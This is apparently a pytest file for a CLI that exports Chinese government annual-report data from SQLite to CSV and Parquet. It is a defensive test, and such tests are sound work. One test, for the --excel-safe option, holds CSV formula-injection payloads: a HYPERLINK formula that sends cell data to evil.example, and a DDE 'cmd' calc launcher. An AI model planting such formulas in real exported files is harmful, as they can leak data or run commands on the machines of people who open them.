"""`nianbao export`: tables and views to CSV and Parquet, read back value for value."""

from __future__ import annotations

import base64
import csv
import io
import tracemalloc

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from archive import export
from archive.export import ExportError, column_types, export_csv, export_parquet, export_table
from archive.report_groups import regroup
from archive.schema import open_database
from nianbao.cli import cli

CELLS = [
    # report_id, table_name, row_key, column_key, value, text, kind, location
    (1, "applications", "new_received", "total", 47.0, "47", "number", "table 3 r1c7"),
    (1, "applications", "carried_over", "total", None, "", "empty", "table 3 r2c7"),
    (1, "active_disclosure", "fees", "amount_10k_yuan", 12.35, "12.35", "number", "table 2 r8c4"),
    (1, "active_disclosure", "regulations", "issued", None, "/", "not_applicable", "table 2 r3c2"),
    (1, "applications", "granted", "total", 0.0, "0", "zero", "table 3 r3c7"),
]


@pytest.fixture
def db(tmp_path):
    db = open_database(tmp_path / "nianbao.db")
    db["agencies"].insert({"id": 1, "name": "城中区人民政府", "normalized_name": "城中区", "level": "county"})
    db["reports"].insert({"id": 1, "url": "http://127.0.0.1/a.html", "agency_id": 1, "title": "城中区2024年报告",
                          "year": 2024, "layout": "2021", "has_tables": 1})
    db["cells"].insert_all(
        dict(zip(["report_id", "table_name", "row_key", "column_key", "value", "text", "kind", "location"], row))
        for row in CELLS
    )
    db["payloads"].insert({"digest": "sha1:AAAA", "size": 3, "codec": "identity", "stored_size": 3,
                           "data": b"\x00\xff\x01"})
    # A view whose column holds integers, reals and text: SQLite allows it, Parquet does not.
    db.create_view("mixed", "select 1 as n, 'a' as t union all select 2.5, 'b' union all select 'three', 'c'")
    return db


def sqlite_rows(db, table):
    return [tuple(row) for row in db.execute(f"select * from [{table}]").fetchall()]


def test_csv_round_trip_keeps_every_value_and_blanks(db):
    out = io.StringIO()
    assert export_csv(db, "cells", out) == len(CELLS)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["id", "report_id", "table_name", "row_key", "column_key", "value", "text", "kind", "location"]
    for printed, stored in zip(rows[1:], sqlite_rows(db, "cells")):
        assert printed == ["" if v is None else str(v) for v in stored]
    # An empty cell stays empty, never 0.
    assert rows[2][5] == "" and rows[2][7] == "empty"


def test_parquet_round_trip_reads_back_what_sqlite_holds(db, tmp_path):
    path = tmp_path / "cells.parquet"
    assert export_parquet(db, "cells", path) == len(CELLS)
    table = pq.read_table(path)
    assert table.schema.field("value").type == pa.float64()
    assert table.schema.field("report_id").type == pa.int64()
    assert table.schema.field("text").type == pa.string()
    assert [tuple(r.values()) for r in table.to_pylist()] == sqlite_rows(db, "cells")


def test_views_and_blobs_export(db, tmp_path):
    path = tmp_path / "applications.parquet"
    export_table(db, "payloads", "parquet", path)
    assert pq.read_table(path).to_pylist()[0]["data"] == b"\x00\xff\x01"
    out = io.StringIO()
    export_csv(db, "payloads", out)
    assert base64.b64decode(list(csv.DictReader(io.StringIO(out.getvalue())))[0]["data"]) == b"\x00\xff\x01"
    # The report in its logical report: the wide table 三 and the report_list view export.
    db.execute("update reports set is_current = 1")
    regroup(db, [1])
    export_table(db, "applications", "parquet", path)
    rows = pq.read_table(path).to_pylist()
    assert [(r["agency"], r["row_key"], r["total"]) for r in rows] == [
        ("城中区人民政府", "carried_over", None), ("城中区人民政府", "granted", 0.0), ("城中区人民政府", "new_received", 47.0)]
    export_table(db, "report_list", "parquet", path)
    assert [(r["agency"], r["year"], r["level"]) for r in pq.read_table(path).to_pylist()] == [
        ("城中区人民政府", 2024, "county")]


def test_a_column_of_mixed_types_becomes_text_in_parquet(db, tmp_path):
    assert column_types(db, "mixed") == {"n": "string", "t": "string"}
    export_parquet(db, "mixed", tmp_path / "mixed.parquet")
    assert pq.read_table(tmp_path / "mixed.parquet").column("n").to_pylist() == ["1", "2.5", "three"]


def test_unknown_table_and_format_are_refused(db):
    with pytest.raises(ExportError, match="no table or view 'nope'; choose one of: .*cells"):
        export_table(db, "nope", "csv", io.StringIO())
    with pytest.raises(ExportError, match="unknown format 'xlsx'"):
        export_table(db, "cells", "xlsx", io.StringIO())


def test_memory_stays_flat_on_a_big_table(tmp_path, monkeypatch):
    """40,000 rows of ~400 bytes (16 MB): both exports hold one batch at a time."""
    monkeypatch.setattr(export, "BATCH_ROWS", 2_000)
    db = open_database(tmp_path / "big.db")
    db.execute("create table big (id integer primary key, value real, text text)")
    db.execute(
        "with recursive n(i) as (select 1 union all select i + 1 from n where i < 40000) "
        "insert into big select i, i / 7.0, printf('%0400d', i) from n"
    )
    db.conn.commit()
    tracemalloc.start()
    try:
        with open(tmp_path / "big.csv", "w", encoding="utf-8", newline="") as stream:
            assert export_csv(db, "big", stream) == 40_000
        _, csv_peak = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        pool = pa.default_memory_pool()
        assert export_parquet(db, "big", tmp_path / "big.parquet") == 40_000
        _, parquet_peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert csv_peak < 6_000_000, csv_peak
    assert parquet_peak < 6_000_000, parquet_peak
    assert pool.max_memory() < 10_000_000, pool.max_memory()
    assert (tmp_path / "big.csv").stat().st_size > 16_000_000
    assert pq.ParquetFile(tmp_path / "big.parquet").metadata.num_row_groups == 20
    assert pq.read_table(tmp_path / "big.parquet", columns=["id"]).column("id")[-1].as_py() == 40_000


def test_cli_exports_and_says_where(db, tmp_path):
    data = tmp_path
    runner = CliRunner()
    result = runner.invoke(cli, ["export", "--data", str(data), "--table", "cells", "--format", "parquet", "-s"])
    assert result.exit_code == 0, result.output
    assert result.output == f"Wrote {len(CELLS)} rows of cells to {data / 'cells.parquet'}\n"
    assert pq.read_table(data / "cells.parquet").num_rows == len(CELLS)

    result = runner.invoke(cli, ["export", "--data", str(data), "--table", "report_list", "-o", "-"])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0].startswith("report_id,title,agency,")

    result = runner.invoke(cli, ["export", "--data", str(data), "--table", "cells", "--bom", "-s",
                                 "-o", str(tmp_path / "excel.csv")])
    assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbfid,report_id,")


def test_excel_safe_csv_keeps_formulas_from_running_and_is_off_by_default(db, tmp_path):
    """A portal's text can begin with a formula: kept exactly unless --excel-safe, which puts a
    ' before text beginning with = + - @ (tab, CR); numbers, negative ones too, are left alone."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"年报")', "+1+cmd|' /C calc'!A0", "-", "@SUM(1)", "\t=1"]
    db["cells"].insert_all({"report_id": 1, "table_name": "applications", "row_key": "granted",
                            "column_key": f"c{n}", "value": -3.0, "text": text, "kind": "text"}
                           for n, text in enumerate(hostile))
    exact = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "-o", "-"])
    safe = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "--excel-safe", "-o", "-"])
    assert exact.exit_code == safe.exit_code == 0, exact.output + safe.output
    exact_rows = list(csv.DictReader(io.StringIO(exact.output)))[-len(hostile):]
    safe_rows = list(csv.DictReader(io.StringIO(safe.output)))[-len(hostile):]
    assert [r["text"] for r in exact_rows] == hostile
    assert [r["text"] for r in safe_rows] == ["'" + text for text in hostile]
    assert {r["value"] for r in safe_rows} == {"-3.0"}
    untouched = list(csv.DictReader(io.StringIO(safe.output)))[:len(CELLS)]
    assert [r["text"] for r in untouched] == [c[5] for c in CELLS]
    refused = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "--format", "parquet",
                                       "--excel-safe"])
    assert refused.exit_code == 2 and "--excel-safe is for CSV" in refused.output


def test_cli_errors_are_one_line(db, tmp_path):
    runner = CliRunner()
    result = runner.invoke(cli, ["export", "--data", str(tmp_path), "--table", "nope"])
    assert result.exit_code == 1
    assert result.output.startswith("Error: no table or view 'nope'; choose one of: ")
    result = runner.invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "--format", "parquet",
                                 "-o", "-"])
    assert result.exit_code == 2
    assert "only CSV can be written to stdout" in result.output
